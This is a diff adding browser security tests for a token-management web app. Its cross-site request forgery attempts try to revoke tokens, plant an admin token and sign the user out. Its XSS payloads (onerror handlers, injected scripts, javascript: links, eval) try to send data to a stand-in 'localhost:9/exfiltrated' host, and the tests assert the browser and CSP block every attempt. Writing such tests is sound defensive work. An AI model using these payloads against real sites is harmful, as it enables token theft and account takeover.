@@ -1,0 +1,107 @@
+import { attacker, state } from './support/attacker.ts';
+import { test, expect } from './support/fixtures.ts';
+import { TOKENS } from './support/journeys.ts';
+
+// On 127.0.0.1 with another port a page is of the same site, so that cookies come along: there the guard stands alone.
+for (const host of ['127.0.0.1', 'localhost']) {
+  test(`a page of somebody else on ${host} changes nothing with scripts and reads nothing`, async ({ page, server, complaints }) => {
+    const label = `coveted by scripts on ${host}`;
+    const { token } = await server.token({ label });
+    const before = await state(server);
+    await attacker(host, '', async (evil) => {
+      await page.goto(evil);
+      const outcomes = await page.evaluate(
+        async ({ to, wanted, revoked }) => {
+          const form = (fields: Record<string, string>) => new URLSearchParams(fields);
+          const post = async (path: string, body: BodyInit, mode: RequestMode, headers: HeadersInit = {}) =>
+            await fetch(to + path, { method: 'POST', credentials: 'include', mode, body, headers }).then(
+              (answer) => `${answer.type} ${answer.status}`,
+              () => 'refused by the browser',
+            );
+          return {
+            'form, opaque': await post('/api/tokens/revoke', form(revoked), 'no-cors'),
+            'text that is JSON, opaque': await post('/api/tokens/revoke', JSON.stringify(revoked), 'no-cors'),
+            'page form, opaque': await post('/orgs/acme/tokens/new', form(wanted), 'no-cors'),
+            'sign out, opaque': await post('/sign-out', form({}), 'no-cors'),
+            'form, to be read': await post('/api/tokens/create', form(wanted), 'cors'),
+            'JSON, to be read': await post('/api/tokens/create', JSON.stringify(wanted), 'cors', { 'Content-Type': 'application/json' }),
+            'list, to be read': await post('/api/tokens/list', form({ organization: 'acme' }), 'cors'),
+            'page, to be read': await fetch(`${to}/orgs/acme/tokens`, { credentials: 'include' }).then(
+              (answer) => `${answer.type} ${answer.status}`,
+              () => 'refused by the browser',
+            ),
+            beacon: String(navigator.sendBeacon(`${to}/api/tokens/revoke`, form(revoked))),
+          };
+        },
+        {
+          to: server.origin,
+          wanted: { organization: 'acme', label: 'planted', role: 'admin', expiry: 'never', description: '' },
+          revoked: { organization: 'acme', token: token.id, label },
+        },
+      );
+      for (const [how, outcome] of Object.entries(outcomes)) {
+        // Chromium gives an opaque answer or, where the resource policy says so, none.
+        const harmless = how === 'beacon' ? /^true$/ : how.endsWith('opaque') ? /^opaque 0$|^refused by the browser$/ : /^refused by the browser$/;
+        expect(outcome, how).toMatch(harmless);
+      }
+      expect(await state(server)).toBe(before);
+    });
+    // What the browser says about the other page is about that page.
+    expect(complaints.splice(0).filter((each) => !each.startsWith(`http://${host}:`))).toEqual([]);
+    expect((await server.post(`${TOKENS}/${token.id}/revoke`, { label }, { Cookie: server.ownerCookie })).status).toBe(303);
+    expect(await state(server)).not.toBe(before);
+  });
+}
+
+test('what somebody manages to put into a page does not run', async ({ page, visit, complaints }) => {
+  await visit(TOKENS);
+  const outcomes = await page.evaluate(async () => {
+    // What runs in the task of a debugger may evaluate text; pages may not, so this goes on in a task of its own.
+    await new Promise((done) => setTimeout(done));
+    const violated: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
+    const attempt = (what: () => void) => {
+      try {
+        what();
+        return 'went through';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const element = <K extends keyof HTMLElementTagNameMap>(name: K) => document.body.appendChild(document.createElement(name));
+    const tried = {
+      'markup with a handler': attempt(() => (element('div').innerHTML = '<img src="x" onerror="window.__pwn=1">')),
+      'markup with a script': attempt(() => (element('div').innerHTML = '<script>window.__pwn=2</script>')),
+      'a script of text': attempt(() => (element('script').text = 'window.__pwn=3')),
+      'a script from elsewhere': attempt(() => (element('script').src = 'http://localhost:9/evil.js')),
+      eval: attempt(() => new Function('window.__pwn=4')()),
+      'a handler': attempt(() => {
+        const button = element('button');
+        button.setAttribute('onclick', 'window.__pwn=5');
+        button.click();
+      }),
+    };
+    const link = element('a');
+    link.href = 'javascript:window.__pwn=6';
+    link.click();
+    element('span').setAttribute('style', 'color: red');
+    await fetch('http://localhost:9/exfiltrated').catch(() => {});
+    const image = element('img');
+    await new Promise((done) => {
+      image.addEventListener('error', done);
+      image.src = 'http://localhost:9/exfiltrated.png';
+    });
+    await new Promise((done) => setTimeout(done));
+    return { tried, violated: [...new Set(violated)], pwned: '__pwn' in window };
+  });
+  expect(outcomes, 'nothing ran').toMatchObject({ pwned: false });
+  for (const how of ['markup with a handler', 'markup with a script', 'a script of text', 'a script from elsewhere'] as const) {
+    expect(outcomes.tried[how], how).toBe('TypeError');
+  }
+  expect(outcomes.tried.eval).not.toBe('went through');
+  expect(outcomes.violated).toEqual(
+    expect.arrayContaining(['require-trusted-types-for', 'style-src-attr', 'connect-src', 'img-src', 'script-src-elem']),
+  );
+  // Each of these was complained about, which is how the tour of the pages would know.
+  expect(complaints.splice(0).length).toBeGreaterThan(5);
+});
